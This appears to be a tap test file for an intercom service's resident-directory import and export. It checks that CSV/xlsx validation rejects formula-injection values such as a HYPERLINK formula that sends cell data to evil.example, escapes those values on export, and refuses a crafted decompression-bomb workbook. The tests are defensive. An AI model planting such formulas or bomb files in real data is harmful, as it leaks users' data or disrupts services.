import ExcelJS from 'exceljs';
import t from 'tap';
import { subscribe, unsubscribe } from 'node:diagnostics_channel';
import { deriveDeviceKey } from '../../src/devices/device-key.js';
import { writeXlsx, XLSX_TYPE } from '../../src/shared/xlsx.js';
import { SPREADSHEET_READING_CHANNEL } from '../../src/shared/sheets.js';
import { RawMqtt } from '../helpers/raw-mqtt.js';
import { FACTORY_SECRET, startTestService } from '../helpers/service.js';
import { part, repeatedPart, withSheet } from '../helpers/zip.js';

const svc = await startTestService(t);
const alice = await svc.createInstaller('Alice');
const bob = await svc.createInstaller('Bob');
const api = (method: string, path: string, opts: { body?: unknown; raw?: string | Buffer; contentType?: string; token?: string } = {}) =>
  svc.api(method, `/api/v1${path}`, { token: alice.token, ...opts });
const count = async (sql: string, params: unknown[] = []) => (await svc.sql(`select count(*)::int as n from ${sql}`, params))[0].n as number;
const newSite = async (name = 'Seaside') => (await api('POST', '/sites', { body: { kind: 'community', name, timeZone: 'Europe/Berlin' } })).body;
const importCsv = (siteId: string, csv: string, token = alice.token) => api('POST', `/sites/${siteId}/import`, { raw: csv, contentType: 'text/csv', token });
const exportCsv = async (siteId: string) => (await fetch(`${svc.httpUrl}/api/v1/sites/${siteId}/export`, { headers: { authorization: `Bearer ${alice.token}` } })).text();

await svc.addDevice(alice.token, '0C1112000001', { type: 2, name: 'Kitchen' });
await svc.addDevice(alice.token, '0C1112000002', { type: 2, name: 'Hall' });
await svc.addDevice(alice.token, '0C1112000003', { type: 0, name: 'Gate' });

const HEADER = 'Building;Accessible Floors;Apt;AptName;Device;FirstName;LastName;Email;MobileNumber;TelephoneCallingCode;1stPhone;2ndPhone;3rdPhone;CallType;Web Relay ID';

t.test('the blank template: the header and one sample row, as CSV and as .xlsx', async (t) => {
  const csv = await fetch(`${svc.httpUrl}/api/v1/sites/import-template`, { headers: { authorization: `Bearer ${alice.token}` } });
  t.equal(csv.status, 200);
  t.match(csv.headers.get('content-type'), /^text\/csv/);
  const lines = (await csv.text()).trim().split('\r\n');
  t.equal(lines.length, 2);
  t.match(lines[0], /^Building,Accessible Floors,Apt,AptName,Device,FirstName,LastName,Email,MobileNumber,TelephoneCallingCode,1stPhone,2ndPhone,3rdPhone,Web Relay ID,Floor$/);
  t.match(lines[1], /"Kitchen,2,0C1105000201"/, 'a cell holding commas is quoted');

  const xlsx = await fetch(`${svc.httpUrl}/api/v1/sites/import-template?format=xlsx`, { headers: { authorization: `Bearer ${alice.token}` } });
  t.equal(xlsx.headers.get('content-type'), XLSX_TYPE);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(await xlsx.arrayBuffer());
  const sheet = book.worksheets[0]!;
  t.equal(sheet.getCell('A1').text, 'Building');
  t.equal(sheet.getCell('E2').text, 'Kitchen,2,0C1105000201');
});

t.test('a semicolon-separated template creates buildings, apartments, residents and monitor placements in one go', async (t) => {
  const site = await newSite();
  const csv = [
    HEADER,
    'Tower A;5;101;The Green;"Kitchen,2,0C1112000001";Lily;Green;lily@example.com;1701234567;49;0301234567;;;0;1',
    'Tower A;5,7;101;;;Tom;Green;;;;;;;;',
    'Tower A;;102;;;;;;;;;;;;',
    'Tower B;All;2#01;Penthouse;Hall,2,0C1112000002;Ryan;Chen;;;;;;;;',
  ].join('\r\n');
  const res = await importCsv(site.id, csv);
  t.equal(res.status, 200, JSON.stringify(res.body));
  t.same(res.body.created, { devices: 0, buildings: 2, apartments: 3, residents: 3, placements: 2 });
  t.same(res.body.ignoredColumns, ['CallType']);
  const buildings = (await api('GET', `/sites/${site.id}/buildings`)).body.items;
  t.same(buildings.map((b: any) => b.name), ['Tower A', 'Tower B']);
  const a101 = (await api('GET', `/buildings/${buildings[0].id}/apartments`)).body.items[0];
  t.match(a101, { number: '101', name: 'The Green', webRelayId: 1 });
  const people = (await api('GET', `/apartments/${a101.id}/residents`)).body.items;
  t.match(people, [
    { firstName: 'Lily', role: 'main', email: 'lily@example.com', mobile: { countryCode: '+49', number: '1701234567' }, landlines: ['0301234567'], accessibleFloors: ['5'] },
    { firstName: 'Tom', role: 'family', accessibleFloors: ['5', '7'] },
  ]);
  t.match((await api('GET', '/devices/0C1112000001')).body, { siteId: site.id, apartmentId: a101.id });

  // The export imports back to the same directory: nothing new, every row skipped.
  const exported = await exportCsv(site.id);
  const again = await importCsv(site.id, exported);
  t.equal(again.status, 200);
  t.same(again.body.created, { devices: 0, buildings: 0, apartments: 0, residents: 0, placements: 0 });
  t.equal(again.body.skipped, 4);
  t.equal(again.body.updated, 0);

  // ... and into an empty site it makes the same directory (the monitors move with it).
  const copy = await newSite('Copy');
  const copied = await importCsv(copy.id, exported);
  t.same(copied.body.created, { devices: 0, buildings: 2, apartments: 3, residents: 3, placements: 2 });
  t.equal(await exportCsv(copy.id), exported, 'the copy exports byte for byte the same');
  t.equal((await api('GET', '/devices/0C1112000002')).body.siteId, copy.id);
});

t.test('bad rows are listed with line, column and reason, and nothing is written', async (t) => {
  const site = await newSite('Faulty');
  const before = { apartments: await count('apartments'), residents: await count('residents'), buildings: await count('buildings') };
  const csv = [
    'Building,Apt,FirstName,LastName,Email,MobileNumber,Device,Accessible Floors',
    'Tower A,101,Lily,Green,,,,',
    'Tower A,#12,Ann,One,,,,',
    'Tower A,103,Ben,,,,,',
    'Tower A,104,Cy,Two,not-an-email,,,',
    'Tower A,105,Di,Three,,1701234567,,',
    'Tower A,106,,,,,"Gate,2,0C1112000003",',
    'Tower A,107,,,,,"Nope,2,0C11120000FF",',
    'Tower A,108,Ed,Four,,,,129',
    ',109,Fay,Five,,,,',
  ].join('\n');
  const res = await importCsv(site.id, csv);
  t.equal(res.status, 400);
  t.equal(res.body.error.code, 'template_invalid');
  const faults = res.body.error.details.invalid.map((f: any) => [f.line, f.column]);
  t.same(faults, [
    [3, 'Apt'],
    [4, 'LastName'],
    [5, 'Email'],
    [6, 'TelephoneCallingCode'],
    [9, 'Accessible Floors'],
    [10, 'Building'],
  ]);
  for (const f of res.body.error.details.invalid) t.ok(f.reason.length > 3, `line ${f.line} says why`);
  // Cells are checked first; devices then (they need the database): the door phone named a monitor, the unknown MAC.
  const fixed = csv.split('\n').filter((_, i) => [0, 1, 6, 7].includes(i)).join('\n');
  const devices = await importCsv(site.id, fixed);
  t.equal(devices.status, 400);
  t.same(
    devices.body.error.details.invalid.map((f: any) => [f.line, f.column]),
    [
      [3, 'Device'],
      [4, 'Device'],
    ],
  );
  t.same({ apartments: await count('apartments'), residents: await count('residents'), buildings: await count('buildings') }, before, 'nothing was written');
  t.equal((await importCsv(site.id, 'Apt,FirstName\n1,A')).body.error.details.invalid[0].reason, 'the header has no Building column');
  t.equal((await importCsv(site.id, 'Building,Apt\n"A,1')).body.error.code, 'csv_invalid');
  t.equal((await importCsv(site.id, 'Building,Apt\nA,1', bob.token)).status, 404, "Bob cannot import into Alice's site");
  t.equal((await api('POST', `/sites/${site.id}/import`, { raw: 'x', contentType: 'application/pdf' })).status, 415);
});

t.test('the template as .xlsx imports like the CSV', async (t) => {
  const site = await newSite('Workbook');
  const book = await writeXlsx('Residents', [
    ['Building', 'Apt', 'AptName', 'FirstName', 'LastName', 'MobileNumber', 'TelephoneCallingCode'],
    ['Tower A', '0101', 'Zero-led', 'Lily', 'Green', '1701234567', '+49'],
  ]);
  const res = await api('POST', `/sites/${site.id}/import`, { raw: book, contentType: XLSX_TYPE });
  t.equal(res.status, 200, JSON.stringify(res.body));
  t.same(res.body.created, { devices: 0, buildings: 1, apartments: 1, residents: 1, placements: 0 });
  const b = (await api('GET', `/sites/${site.id}/buildings`)).body.items[0];
  t.equal((await api('GET', `/buildings/${b.id}/apartments`)).body.items[0].number, '0101', 'text cells keep their leading zero');
  const bad = await api('POST', `/sites/${site.id}/import`, { raw: Buffer.from('PK not a zip'), contentType: XLSX_TYPE });
  t.equal(bad.status, 400);
  t.equal(bad.body.error.code, 'xlsx_invalid');
});

t.test('an import of many residents gives an affected door phone one provisioning job', async (t) => {
  const site = await newSite('Big');
  await api('PATCH', '/devices/0C1112000003', { body: { siteId: site.id } });
  await svc.service.follower.settled();
  const rows = ['Building,Apt,FirstName,LastName'];
  for (let i = 0; i < 300; i++) rows.push(`Tower ${i % 3},${100 + i},First${i},Last${i}`);
  const res = await importCsv(site.id, rows.join('\n'));
  t.same(res.body.created, { devices: 0, buildings: 3, apartments: 300, residents: 300, placements: 0 });
  await svc.service.follower.settled();
  const jobs = (await api('GET', '/jobs?mac=0C1112000003&kind=provision&pageSize=100')).body.items;
  t.equal(jobs.length, 1, '300 residents, one job for the offline door phone');
  const view = (await api('GET', '/devices/0C1112000003/directory')).body;
  t.equal(view.documents.find((d: any) => d.name === 'contacts').content.apartments.length, 300, 'its contact list has every apartment');
});

const importXlsx = (siteId: string, book: Buffer) => api('POST', `/sites/${siteId}/import`, { raw: book, contentType: XLSX_TYPE });
const ROW_XML = '<row r="1"><c r="A1" t="inlineStr"><is><t>Building</t></is></c></row>';

t.test('a workbook whose sheet1.xml unzips to 149 MB is refused with 413 spreadsheet_too_large, naming the limit and the size', async (t) => {
  const site = await newSite('Bomb');
  const workbook = await writeXlsx('Residents', [['Building', 'Apt']]);
  const sheet = repeatedPart('sheet', ROW_XML, 149 * 1024 * 1024);
  const bomb = withSheet(workbook, sheet);
  t.ok(bomb.length < 1024 * 1024, `${bomb.length} bytes unzip to ${sheet.size}`);
  const res = await importXlsx(site.id, bomb);
  t.equal(res.status, 413);
  t.match(res.body.error, { code: 'spreadsheet_too_large', message: /sheet1\.xml unzips to 149\.\d MiB; at most 32\.0 MiB per part/, details: { limit: 32 * 1024 * 1024, found: sheet.size } });
  // The same bomb with a header claiming 4 KiB is caught while inflating, in the worker.
  const liar = await importXlsx(site.id, withSheet(workbook, repeatedPart('sheet', ROW_XML, 149 * 1024 * 1024, 4096)));
  t.equal(liar.status, 400);
  t.match(liar.body.error, { code: 'xlsx_invalid', message: /unzips to more than its header declares/ });
  t.equal(await count('buildings where site_id = $1', [site.id]), 0, 'nothing was written');
});

t.test("a workbook exceljs cannot read is 400 xlsx_invalid in this service's words, never the library's", async (t) => {
  const site = await newSite('Broken');
  const sheet = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c t="inlineStr"><is><t>Building</t></is></c></row></sheetData></worksheet>';
  const res = await importXlsx(site.id, withSheet(await writeXlsx('Residents', [['Building']]), part('sheet', sheet)));
  t.equal(res.status, 400);
  t.equal(res.body.error.code, 'xlsx_invalid');
  t.notMatch(res.body.error.message, /Cannot read|undefined|'col'/);
});

t.test('while a large workbook is read, an MQTT CONNECT and /readyz answer before the upload does', async (t) => {
  const site = await newSite('Large');
  const mac = '0C1112000009';
  await svc.addDevice(alice.token, mac, { type: 0, name: 'Probe' });
  // A valid workbook within the limits that is slow to read: a 20 MiB sheet (from 70 KB) that exceljs
  // reads in full (seconds) before the import refuses it for want of a Building column; nothing is written.
  // The sheet is the archive's last part: read on the event loop, nothing would yield after it.
  const HEAD = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>';
  const sheet = repeatedPart('sheet', '<row r="1"><c r="A1" t="inlineStr"><is><t>Apt</t></is></c></row>', 20 * 1024 * 1024, undefined, HEAD, '</sheetData></worksheet>');
  const book = withSheet(await writeXlsx('Residents', [['Building']]), sheet, { last: true });

  const order: string[] = [];
  const upload = importXlsx(site.id, book).then((r) => {
    order.push('upload');
    return r;
  });
  // The probes start once a worker has the file (or, reading on the event loop, once the upload answered).
  const handedOver = new Promise<void>((resolve) => {
    const onReading = () => {
      unsubscribe(SPREADSHEET_READING_CHANNEL, onReading);
      resolve();
    };
    subscribe(SPREADSHEET_READING_CHANNEL, onReading);
    t.teardown(() => unsubscribe(SPREADSHEET_READING_CHANNEL, onReading));
  });
  await Promise.race([handedOver, upload]);
  const ready = svc.api('GET', '/readyz', { token: null }).then((r) => {
    order.push('readyz');
    return r.status;
  });
  const connack = (async () => {
    const raw = await RawMqtt.connect(svc.service.ports.mqtt);
    t.teardown(() => raw.end());
    raw.send(raw.connectPacket(mac, mac, deriveDeviceKey(FACTORY_SECRET, mac)));
    const packet = await raw.next('connack', 120_000);
    order.push('connack');
    return packet?.returnCode;
  })();
  const [res, readyStatus, returnCode] = await Promise.all([upload, ready, connack]);
  t.equal(res.status, 400);
  t.equal(res.body.error.details.invalid[0].reason, 'the header has no Building column', 'the file was read in full');
  t.equal(readyStatus, 200);
  t.equal(returnCode, 0, 'the door phone is connected');
  t.same(order.slice(-1), ['upload'], `readyz and CONNACK came while the workbook was being read (order: ${order.join(', ')})`);
});

const DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+1', '-2+3', '@SUM(A1)', '\tTab', '\rReturn'];

t.test("the export writes every cell that begins like a formula with a leading ', in CSV and in .xlsx", async (t) => {
  const site = await newSite('Escapes');
  const csv = ['Building,Apt,FirstName,LastName,TelephoneCallingCode,MobileNumber', ...DANGEROUS.map((_, i) => `Tower,${101 + i},First,Last${i},+49,1701234567`)].join('\n');
  t.equal((await importCsv(site.id, csv)).status, 200);
  // Names from before this service refused formula-like names: written straight into the database.
  for (const [i, name] of DANGEROUS.entries()) await svc.sql('update residents set first_name = $1 where site_id = $2 and last_name = $3', [name, site.id, `Last${i}`]);

  const exported = await exportCsv(site.id);
  for (const name of DANGEROUS) t.ok(exported.includes(`'${name}`.replace(/"/g, '""')), `CSV: ${JSON.stringify(name)} is written after a '`);
  t.notMatch(exported, /(^|,)"?([=+\-@\t]|\r(?!\n))/m, 'no CSV cell begins like a formula (an empty last cell before the line end is none)');
  t.match(exported, /,'\+49,/, "the calling code too: '+49");

  const res = await fetch(`${svc.httpUrl}/api/v1/sites/${site.id}/export?format=xlsx`, { headers: { authorization: `Bearer ${alice.token}` } });
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(await res.arrayBuffer());
  const cells: string[] = [];
  book.worksheets[0]!.eachRow((row) => row.eachCell((c) => void cells.push(String(c.value))));
  // (XML reads a carriage return as a line feed.)
  for (const name of DANGEROUS) t.ok(cells.includes(`'${name}`.replace(/\r/g, '\n')), `xlsx: ${JSON.stringify(name)} is written after a '`);
  t.notOk(cells.some((c) => /^[=+\-@\t\r]/.test(c)), 'no xlsx cell begins like a formula');

  // Importing the export back: the calling code reads as +49; the formula-like names are refused, each by line and column.
  const again = await importCsv(site.id, exported);
  t.equal(again.status, 400);
  t.equal(again.body.error.code, 'template_invalid');
  const refused = again.body.error.details.invalid.filter((f: any) => f.column === 'FirstName');
  t.same(refused.map((f: any) => f.value), ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+1', '-2+3', '@SUM(A1)'], 'tab and carriage return are trimmed off like any surrounding space');
  t.match(refused[0].reason, /must not begin with =, \+, - or @/);
  t.notOk(again.body.error.details.invalid.some((f: any) => f.column === 'TelephoneCallingCode'), "'+49 reads as the calling code +49");
});

t.test('import and API refuse names that begin like a formula, with the line and column; phone numbers keep their +', async (t) => {
  const site = await newSite('Refusals');
  const csv = ['Building,Apt,AptName,FirstName,LastName,TelephoneCallingCode,MobileNumber', 'Tower,101,,Lily,Green,+49,1701234567', 'Tower,102,,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",Green,,', '@Tower,103,,,,,', 'Tower,104,+Penthouse,,,,'].join('\n');
  const res = await importCsv(site.id, csv);
  t.equal(res.status, 400);
  t.same(
    res.body.error.details.invalid.map((f: any) => [f.line, f.column]),
    [
      [3, 'FirstName'],
      [4, 'Building'],
      [5, 'AptName'],
    ],
  );
  const ok = await importCsv(site.id, csv.split('\n').slice(0, 2).join('\n'));
  t.equal(ok.status, 200, 'the +49 calling code is data, not a formula');
  const building = (await api('GET', `/sites/${site.id}/buildings`)).body.items[0];
  const apartment = (await api('GET', `/buildings/${building.id}/apartments`)).body.items[0];
  const resident = (await api('GET', `/apartments/${apartment.id}/residents`)).body.items[0];
  t.match(resident.mobile, { countryCode: '+49' });

  const named = await api('POST', `/apartments/${apartment.id}/residents`, { body: { firstName: '=HYPERLINK("http://evil.example/?"&A1,"Click")', lastName: 'Evil' } });
  t.equal(named.status, 400);
  t.match(named.body.error, { code: 'validation_error', message: /firstName: must not begin with =, \+, - or @/ });
  t.equal((await api('PATCH', `/residents/${resident.id}`, { body: { lastName: '-1' } })).status, 400);
  t.equal((await api('POST', `/sites/${site.id}/buildings`, { body: { name: '@Tower' } })).status, 400);
  t.equal((await api('PATCH', `/apartments/${apartment.id}`, { body: { name: '+Penthouse' } })).status, 400);
  t.equal((await api('PATCH', `/residents/${resident.id}`, { body: { lastName: 'Green-Smith' } })).status, 200, 'a - inside a name is fine');
});

t.test("the Device column makes devices of MACs that are only in the installer's MAC library, and an export makes them again", async (t) => {
  const site = await newSite('From the library');
  const library = async (token: string, mac: string) => t.equal((await svc.api('POST', '/api/v1/mac-library', { token, body: { mac } })).status, 201);
  for (const mac of ['0C1112000A01', '0C1112000A02', '0C1112000A03', '0C1112000A04']) await library(alice.token, mac);
  await library(bob.token, '0C1112000B01');
  await svc.addDevice(bob.token, '0C1112000B02', { type: 2, name: "Bob's monitor" });
  const devicesBefore = await count('devices');
  const auditBefore = await count('write_audit');

  // Every fault of the column at once, and nothing made: no device, no building.
  const faulty = [
    'Building,Apt,Device',
    'Tower A,101,"Kitchen,2,0C1112000A01; Villa door,1,0C1112000A02"',
    'Tower A,102,"Stolen,2,0C1112000B01"',
    'Tower A,103,"Taken,2,0C1112000B02"',
    'Tower A,104,"Nowhere,2,0C1112000AFF"',
    'Tower A,105,"Gate,2,0C1112000003"',
    'Tower A,106,"Twice,2,0C1112000A01"',
  ].join('\n');
  const refused = await importCsv(site.id, faulty);
  t.equal(refused.status, 400);
  t.equal(refused.body.error.code, 'template_invalid');
  t.same(
    refused.body.error.details.invalid.map((f: any) => [f.line, f.column]),
    [
      [3, 'Device'],
      [4, 'Device'],
      [5, 'Device'],
      [6, 'Device'],
      [7, 'Device'],
    ],
  );
  const reasons = refused.body.error.details.invalid.map((f: any) => f.reason);
  t.equal(reasons[0], reasons[1], "Bob's library entry and Bob's device read as a MAC not in the library: the file learns nothing of Bob");
  t.equal(reasons[0], reasons[2]);
  t.match(reasons[3], /has type 0, not 2/);
  t.match(reasons[4], /line 2/);
  t.equal(await count('devices'), devicesBefore, 'no device was made');
  t.equal(await count('write_audit'), auditBefore, 'nothing was recorded');
  t.equal((await api('GET', `/sites/${site.id}/buildings`)).body.items.length, 0);

  const csv = ['Building,Apt,Device,FirstName,LastName', 'Tower A,101,"Kitchen,2,0C1112000A01; Villa door,1,0C1112000A02",Lily,Green', 'Tower A,101,"Kitchen,2,0C1112000A01",Tom,Green', 'Tower A,102,"Hall,2,0C1112000A04; Gate,0,0C1112000A03",,'].join('\n');
  const res = await importCsv(site.id, csv);
  t.equal(res.status, 200, JSON.stringify(res.body));
  t.same(res.body.created, { devices: 4, buildings: 1, apartments: 2, residents: 2, placements: 4 });
  const tower = (await api('GET', `/sites/${site.id}/buildings`)).body.items[0];
  const a101 = (await api('GET', `/buildings/${tower.id}/apartments`)).body.items.find((a: any) => a.number === '101');
  const kitchen = (await api('GET', '/devices/0C1112000A01')).body;
  t.match(kitchen, { name: 'Kitchen', type: 2, installerId: alice.id, siteId: site.id, apartmentId: a101.id, networkGroup: 1, relays: [] });
  t.match(kitchen.sipNumber, /^[0-9]+$/, 'a SIP account of its own');
  t.match((await api('GET', '/devices/0C1112000A02')).body, { name: 'Villa door', type: 1, apartmentId: a101.id });
  t.match((await api('GET', '/devices/0C1112000A03')).body, { name: 'Gate', type: 0, buildingId: tower.id, apartmentId: null }, "seed 004's door phone in the Device column: placed in the row's building");
  const audit = (await api('GET', '/audit/writes?subject=0C1112000A01')).body.items;
  t.match(audit, [{ action: 'device.created', siteId: site.id, details: { name: 'Kitchen', type: 2, via: 'template' } }]);
  t.equal((await api('GET', '/devices/0C1112000A01', { token: bob.token })).status, 404, "Bob does not see Alice's new device");

  // Export, remove the devices (their MACs stay in the library), import into an empty site: the same devices, placed alike.
  const exported = await exportCsv(site.id);
  t.match(exported, /"Gate,0,0C1112000A03;Kitchen,2,0C1112000A01;Villa door,1,0C1112000A02"/, "the building's entrance rides on its first row");
  for (const mac of ['0C1112000A01', '0C1112000A02', '0C1112000A03', '0C1112000A04']) t.equal((await api('DELETE', `/devices/${mac}`)).status, 204);
  const copy = await newSite('From the export');
  const again = await importCsv(copy.id, exported);
  t.equal(again.status, 200, JSON.stringify(again.body));
  t.same(again.body.created, { devices: 4, buildings: 1, apartments: 2, residents: 2, placements: 4 });
  const copied = (await api('GET', '/devices/0C1112000A04')).body;
  t.match(copied, { name: 'Hall', type: 2, siteId: copy.id });
  t.equal((await exportCsv(copy.id)).replace(/\r/g, ''), exported.replace(/\r/g, ''), 'the new site exports as the old one did');
});
